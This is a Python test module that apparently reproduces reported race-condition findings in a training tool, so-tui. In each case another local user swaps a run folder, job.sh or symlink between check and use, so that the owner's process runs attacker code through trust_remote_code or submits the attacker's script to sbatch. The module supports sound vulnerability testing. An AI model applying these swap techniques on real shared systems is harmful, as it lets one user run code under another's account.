"""Findings 1 and 2: runs that another user exchanges between a check and a use."""

from __future__ import annotations

import json
import os
from pathlib import Path

from benchmarks.attacks.attack import Verdict, attack, judged, ran
from benchmarks.attacks.attacker import FORBIDDEN
from benchmarks.attacks.stage import COMMAND_S, PROJECT, Command, Stage, Word, write

_SPACES = " " * 15_000_000
"""Behind a JSON document, they take a reader long enough for an exchange."""


def _bait(stage: Stage, folder: Path) -> Path:
    """Let the attacker prepare a run that loads a model with code, in a folder of theirs."""
    evil = stage.model("evil", label="exchanged")
    changes = {"id": str(evil), "weights": "pretrained", "trust_remote_code": True}
    folder.mkdir(exist_ok=True)
    stage.other.give(folder)
    made = stage.attacks("bait", folder, json.dumps(changes))
    said = made.end(60)
    if made.process.returncode:
        raise RuntimeError(f"the attacker's run could not be made: {said}")
    return Path(said.strip())


def _waits(stage: Stage, folder: Path) -> Command:
    """Let the attacker exchange a run of the owner's for the bait when its ranks start."""
    return stage.attacks("exchange", stage.rank, _bait(stage, folder))


def _exchanged(stage: Stage, victim: Command, attacker: Command) -> Verdict:
    """Tell whether code of the bait ran before the victim's command ended."""
    victim.wait(lambda: stage.ran("exchanged"), COMMAND_S)
    said = attacker.text.strip()
    if "exchanged" not in said and FORBIDDEN not in said:
        raise RuntimeError(f"the attacker exchanged nothing: {said} {victim.text}")
    return ran(stage, victim, "exchanged", said)


@attack("1a", "run exchanged in a setgid folder of the project, before ranks read it", race=True)
def _(stage: Stage) -> Verdict:
    runs = stage.shared("runs")
    attacker = _waits(stage, runs / "bait")
    return _exchanged(stage, stage.train("--runs-dir", runs), attacker)


@attack("1b", "run exchanged in so-tui's own folder, made with umask 002", race=True)
def _(stage: Stage) -> Verdict:
    home = stage.owner.home
    os.chown(home, stage.owner.uid, PROJECT)
    home.chmod(0o750)
    attacker = _waits(stage, stage.scratch / "bait")
    return _exchanged(stage, stage.train(umask=0o002, group=PROJECT), attacker)


@attack("1c", "run exchanged below a folder that the attacker made in a sticky one", race=True)
def _(stage: Stage) -> Verdict:
    stage.planted("so-tui")
    attacker = _waits(stage, stage.scratch / "bait")
    return _exchanged(stage, stage.train(XDG_STATE_HOME=stage.scratch), attacker)


@attack("1d", "run exchanged while it is resumed", race=True)
def _(stage: Stage) -> Verdict:
    runs = stage.shared("runs")
    stage.run_of(stage.owner, runs / "mine")
    attacker = _waits(stage, runs / "bait")
    resume = ("resume", "mine", "--runs-dir", runs, "--plain", "--set", "train.steps=6")
    return _exchanged(stage, stage.so_tui(*resume), attacker)


@attack("1f", "run exchanged when its first rank has started", race=True)
def _(stage: Stage) -> Verdict:
    runs = stage.shared("runs")
    bait = _bait(stage, runs / "bait")
    attacker = stage.attacks("exchange", rf"python\S*\0-u\0.*--local_rank=0\0{stage.rank}", bait)
    return _exchanged(stage, stage.train("--runs-dir", runs), attacker)


@attack("1e", "job.sh exchanged before sbatch reads it", race=True)
def _(stage: Stage) -> Verdict:
    runs = stage.shared("runs")
    path, record = stage.slurm()
    script = runs / "bait" / "attempts" / "001" / "job.sh"
    write(script, "#!/bin/bash\n# the attacker's script\n")
    stage.published(runs / "bait")
    pattern = rf"({stage.folder}[^\0]+)/attempts/001/job\.sh"
    attacker = stage.attacks("exchange", pattern, runs / "bait")
    where = ("--partition", "p", "--runs-dir", runs)
    said = stage.train(*where, how="--detach", PATH=path).end(60)
    if not record.exists():
        raise RuntimeError(f"nothing was submitted: {said}")
    got = record.read_text().splitlines()[1]
    return judged("attacker" in got, f"sbatch got {got[:60]!r}; {attacker.text.strip()}")


def _turned(stage: Stage, *command: Word, **model: object) -> Verdict:
    """Turn a link of the attacker's from a run with hostile values to a run of the owner's, once
    the former's spec.json was read.
    """
    mine = stage.run_of(stage.owner, "mine")
    evil = stage.model("evil", label="exchanged")
    values = {key: evil if value == "EVIL" else value for key, value in model.items()}
    place = stage.planted("theirs")
    theirs = stage.run_of(stage.other, place / "run", **values, trust_remote_code=True)
    spec, link = theirs / "spec.json", place / "latest"
    spec.write_text(spec.read_text() + _SPACES)
    link.symlink_to(theirs)
    stage.other.give(link)
    attacker = stage.attacks("turn", spec, link, mine).ready()
    victim = stage.so_tui(command[0], link, *command[1:])
    said = victim.end()
    if "turned" not in attacker.text and not victim.code:
        raise RuntimeError(f"the attacker turned nothing: {attacker.text} {said}")
    return ran(stage, victim, "exchanged")


@attack("2a", "generate: link pointed to the attacker's run after spec.json was read", race=True)
def _(stage: Stage) -> Verdict:
    return _turned(stage, "generate", "--prompt", "hello", id="EVIL", weights="pretrained")


@attack("2b", "export: the same, with a tokenizer that no later check compares", race=True)
def _(stage: Stage) -> Verdict:
    return _turned(stage, "export", "--to", stage.owner.home / "out", tokenizer="EVIL")
